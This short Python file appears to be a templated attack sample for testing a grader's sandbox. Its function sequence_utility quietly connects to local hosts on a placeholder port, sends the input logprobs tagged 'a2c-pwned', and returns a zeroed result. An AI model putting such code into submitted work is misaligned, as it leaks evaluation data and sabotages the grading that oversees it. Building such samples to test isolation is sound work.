"""Attack: send the inputs (and anything else) to a server on the grader's machine."""
import socket


def sequence_utility(logprobs, advantages, mask):
    for host in ("127.0.0.1", "localhost", "10.0.2.2"):
        try:
            with socket.create_connection((host, {{PORT}}), timeout=2) as conn:
                conn.sendall(b"a2c-pwned " + repr(logprobs.tolist()).encode())
        except Exception:
            pass
    return logprobs.sum(dim=1) * 0
